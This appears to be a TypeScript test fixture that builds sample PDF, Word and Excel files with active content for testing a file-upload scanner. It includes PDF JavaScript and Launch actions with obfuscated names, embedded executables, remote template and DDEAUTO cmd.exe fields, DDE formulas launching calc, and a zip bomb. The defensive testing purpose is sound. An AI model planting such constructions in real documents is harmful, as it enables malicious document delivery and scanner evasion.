import { deflateSync } from 'node:zlib';
import type { FileContentType } from '@clientele/domain/file-types';
import { makeCompoundFile, makeDocx, makeXlsx, makeZip } from './sample-files.ts';

type ActiveFile = { contentType: FileContentType; content: Buffer };

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const EXCEL = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const CATALOG = '/Type /Catalog /Pages 2 0 R';
const PAGES = [
  '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
  '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n',
];

function latin1(text: string): Buffer {
  return Buffer.from(text, 'latin1');
}

/** A PDF of one blank page; `catalog` adds entries to its root, `parts` are further objects. */
export function pdfWith(catalog: string, ...parts: readonly (string | Buffer)[]): Buffer {
  const root = `1 0 obj\n<< ${CATALOG} ${catalog} >>\nendobj\n`;
  const pieces = ['%PDF-1.7\n', root, ...PAGES, ...parts, 'trailer << /Size 20 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'];
  return Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? latin1(piece) : piece)));
}

/** Objects packed into a stream, as most programs write them (ISO 32000-2, 7.5.7). */
export function packedObjects(objects: Readonly<Record<number, string>>, more = '', filter = '/FlateDecode'): Buffer {
  let head = '';
  let body = '';
  for (const [number, object] of Object.entries(objects)) {
    head += `${number} ${body.length} `;
    body += `${object}\n`;
  }
  const packed = deflateSync(latin1(head + body));
  const about = `/Type /ObjStm /N ${Object.keys(objects).length} /First ${head.length} /Filter ${filter} ${more}`;
  return Buffer.concat([
    latin1(`10 0 obj\n<< ${about} /Length ${packed.length} >>\nstream\n`),
    packed,
    latin1('\nendstream\nendobj\n'),
  ]);
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const LAUNCH = '<< /S /Launch /Win << /F (cmd.exe) >> >>';
const ATTACHMENT = '<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>';

const PDFS: Readonly<Record<string, Buffer>> = {
  'a script when it is opened': pdfWith(`/OpenAction ${SCRIPT}`),
  'a script in a named list': pdfWith(
    `/Names << /JavaScript << /Names [(a) 5 0 R] >> >>`,
    `5 0 obj ${SCRIPT} endobj\n`,
  ),
  'a script with an escaped name': pdfWith('/OpenAction << /S /J#61vaScript /J#53 (x) >>'),
  'a script with all its letters escaped': pdfWith('/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>'),
  'a script whose kind lies elsewhere': pdfWith('/OpenAction << /S 5 0 R /JS (x) >>', '5 0 obj /JavaScript endobj\n'),
  'a script among packed objects': pdfWith('/OpenAction 5 0 R', packedObjects({ 5: SCRIPT })),
  'an escaped script among packed objects': pdfWith(
    '/OpenAction 5 0 R',
    packedObjects({ 4: '[1 2]', 5: '<< /S /Java#53cript /JS (x) >>' }),
  ),
  'objects that are packed twice': pdfWith(
    '/OpenAction 5 0 R',
    packedObjects({ 5: SCRIPT }, '', '[/ASCIIHexDecode /FlateDecode]'),
  ),
  'objects behind a predictor': pdfWith(
    '/OpenAction 5 0 R',
    packedObjects({ 5: '[3 0 R /Fit]' }, '/DecodeParms << /Predictor 12 /Columns 4 >>'),
  ),
  'objects that point into each other': pdfWith(
    '/OpenAction 5 0 R',
    Buffer.from(packedObjects({ 5: '[9 << /S /URI /URI (http://x.test) >>]' }).toString('latin1'), 'latin1'),
    packedObjects({ 5: '[3 0 R /Fit]' }, '/N 1 /First 9'),
  ),
  'packed objects that are encrypted': Buffer.concat([
    pdfWith('', packedObjects({ 5: '[3 0 R /Fit]' })).subarray(0, -6),
    latin1('\ntrailer << /Root 1 0 R /Encrypt << /Filter /Standard /V 4 >> >>\n%%EOF\n'),
  ]),
  'a script where a reader sees a stream': pdfWith(
    '',
    `4 0 obj << /Length 70 >>\nstream\n5 0 obj ${SCRIPT} endobj\nendstream\nendobj\n`,
  ),
  'a script in an older version of itself': pdfWith('', `1 0 obj << ${CATALOG} /OpenAction ${SCRIPT} >> endobj\n`),
  'a script behind a comment': pdfWith('/OpenAction << /S %(\n/JavaScript /JS (x) >>'),
  'a script on its page': pdfWith('', `5 0 obj << /AA << /O ${SCRIPT} >> >> endobj\n`),
  'a program to start': pdfWith(`/OpenAction ${LAUNCH}`),
  'a link that starts a program': pdfWith('', `5 0 obj << /Subtype /Link /A ${LAUNCH} >> endobj\n`),
  'an address that opens by itself': pdfWith('/OpenAction << /S /URI /URI (http://x.test) >>'),
  'an address that opens after the first step': pdfWith(
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>',
    packedObjects({ 5: '<< /S /URI /URI (http://x.test) >>' }),
  ),
  'a file elsewhere that opens with its page': pdfWith(
    '',
    '5 0 obj << /AA << /O << /S /GoToR /F (\\\\\\\\x.test\\\\a) /D [0 /Fit] >> >> >> endobj\n',
  ),
  'a command to print when it is opened': pdfWith('/OpenAction << /S /Named /N /Print >>'),
  'a file in it': pdfWith(
    `/Names << /EmbeddedFiles << /Names [(setup.exe) ${ATTACHMENT}] >> >>`,
    '6 0 obj << /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n',
  ),
  'a file pinned to its page': pdfWith(
    '',
    `5 0 obj << /Subtype /FileAttachment /FS ${ATTACHMENT} >> endobj\n`,
    '6 0 obj << /Length 2 >>\nstream\nMZ\nendstream\nendobj\n',
  ),
  'a form that is sent away': pdfWith('', '5 0 obj << /A << /S /SubmitForm /F (http://x.test) >> >> endobj\n'),
  'a form with a program of its own': pdfWith('/AcroForm << /Fields [] /XFA 5 0 R >>'),
  'a film with a player': pdfWith('', '5 0 obj << /Subtype /RichMedia >> endobj\n'),
  'brackets without end': pdfWith(`/Names ${'['.repeat(5000)}`),
};

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

export function relationships(...links: readonly { kind: string; target: string; external?: boolean }[]): string {
  const each = links.map(
    ({ kind, target, external }, index) =>
      `<Relationship Id="rId${index}" Type="${RELATIONSHIPS}/${kind}" Target="${target}"${external === true ? ' TargetMode="External"' : ''}/>`,
  );
  return `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${each.join('')}</Relationships>`;
}

/** Paragraphs of a Word document. */
export function wordMarkup(body: string): string {
  return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
}

/** A field as Word writes it, its instruction in several pieces. */
export function field(...pieces: readonly string[]): string {
  const runs = pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('');
  return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
}

function remoteTemplate(target: string): Buffer {
  return makeDocx({
    'word/_rels/settings.xml.rels': relationships({ kind: 'attachedTemplate', target, external: true }),
  });
}

const CELL = `<worksheet><sheetData><row><c><f>cmd|'/C calc'!A0</f></c></row></sheetData></worksheet>`;
const OLE = makeCompoundFile(['\u0001Ole10Native']).toString('latin1');

const WORD_FILES: Readonly<Record<string, Buffer>> = {
  'a template from elsewhere': remoteTemplate('https://x.test/a.dotm'),
  'a template from a server of files': remoteTemplate('file:///\\\\x.test\\a.dotx'),
  'a template under another name': makeDocx({
    'word/odd.bin': relationships({ kind: 'attachedTemplate', target: 'http://x.test/a', external: true }),
  }),
  'a template in UTF-16': makeDocx({
    'word/_rels/settings.xml.rels': Buffer.from(
      `\uFEFF${relationships({ kind: 'attachedTemplate', target: 'http://x.test', external: true }).replace('UTF-8', 'UTF-16')}`,
      'utf16le',
    ),
  }),
  'a template in an encoding of its own': makeDocx({
    'word/_rels/settings.xml.rels': '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationships/+AD4-',
  }),
  'entities of its own': makeDocx({ 'word/settings.xml': '<!DOCTYPE a [<!ENTITY x "y">]><settings>&x;</settings>' }),
  'an embedded object': makeDocx({
    'word/_rels/document.xml.rels': relationships({ kind: 'oleObject', target: 'embeddings/oleObject1.bin' }),
    'word/embeddings/oleObject1.bin': 'x',
  }),
  'an embedded object under the name of a picture': makeDocx({ 'word/media/image1.png': Buffer.from(OLE, 'latin1') }),
  'a linked object': makeDocx({
    'word/_rels/document.xml.rels': relationships({
      kind: 'oleObject',
      target: 'mhtml:http://x.test!x',
      external: true,
    }),
  }),
  'a page from elsewhere in a frame': makeDocx({
    'word/_rels/webSettings.xml.rels': relationships({ kind: 'frame', target: 'http://x.test', external: true }),
  }),
  'macros under another name': makeDocx({
    'word/_rels/document.xml.rels': relationships({ kind: 'vbaProject', target: 'media/image1.png' }),
  }),
  'a control': makeDocx({
    'word/_rels/document.xml.rels': relationships({ kind: 'control', target: 'activeX/activeX1.xml' }),
  }),
  'a field that starts a program': makeDocx({
    'word/header1.xml': wordMarkup(
      '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:p>',
    ),
  }),
  'such a field in pieces': makeDocx({ 'word/footnotes.xml': wordMarkup(field(' DD', '&#69;AUTO cmd')) }),
  'such a field inside another': makeDocx({
    'word/comments.xml': wordMarkup(
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 </w:instrText></w:r>${field('<![CDATA[dde]]> cmd')}`,
    ),
  }),
  'a workbook with macros in it': makeDocx({ 'word/embeddings/sheet.xlsx': makeXlsx({ 'xl/vbaProject.bin': 'x' }) }),
  'a workbook in it that starts a program': makeDocx({
    'word/embeddings/sheet.xlsx': makeXlsx({ 'xl/worksheets/sheet2.xml': CELL }),
  }),
  'parts in pieces': makeDocx({ 'word/_rels/settings.xml.rels/[0].last.piece': 'x' }),
  'parts that are bombs': makeZip(
    { '[Content_Types].xml': '<Types/>', 'word/document.xml': ' '.repeat(40_000_000) },
    { packed: true },
  ),
};

const EXCEL_FILES: Readonly<Record<string, Buffer>> = {
  'a link to another program': makeXlsx({
    'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
  }),
  'a link to an object': makeXlsx({
    'xl/externalLinks/externalLink1.xml': '<externalLink><oleLink progId="Package"/></externalLink>',
  }),
  'a cell that starts a program': makeXlsx({ 'xl/worksheets/sheet2.xml': CELL }),
  'a name that starts a program': makeXlsx({
    'xl/workbook.xml': `<workbook><definedNames><definedName name="a">cmd|'/C calc'!A0</definedName></definedNames></workbook>`,
  }),
  'a sheet of macros': makeXlsx({
    'xl/_rels/workbook.xml.rels': relationships({ kind: 'xlMacrosheet', target: 'macrosheets/sheet1.xml' }),
  }),
  'data that is fetched by itself': makeXlsx({
    'xl/connections.xml': '<connections><connection id="1" type="1" refreshOnLoad="1"/></connections>',
  }),
  'the type of a workbook with macros': makeXlsx({
    '[Content_Types].xml':
      '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
  }),
};

function named(
  before: string,
  contentType: FileContentType,
  files: Readonly<Record<string, Buffer>>,
): [string, ActiveFile][] {
  return Object.entries(files).map(([label, content]) => [`${before} with ${label}`, { contentType, content }]);
}

/** Documents that show something and start something else besides, or hide whether they do. */
export const ACTIVE_FILES: Readonly<Record<string, ActiveFile>> = Object.fromEntries([
  ...named('a PDF', 'application/pdf', PDFS),
  ...named('Word', WORD, WORD_FILES),
  ...named('Excel', EXCEL, EXCEL_FILES),
  ...named('old Word', 'application/msword', {
    'an embedded object': makeCompoundFile(['WordDocument', '\u0001Ole10Native']),
    'a field that starts a program': Buffer.concat([
      makeCompoundFile(['WordDocument']),
      latin1('\x13 DDEAUTO c:\\windows\\system32\\cmd.exe\x15'),
    ]),
  }),
  ...named('old Excel', 'application/vnd.ms-excel', { 'a linked object': makeCompoundFile(['Workbook', '\u0001Ole']) }),
]);
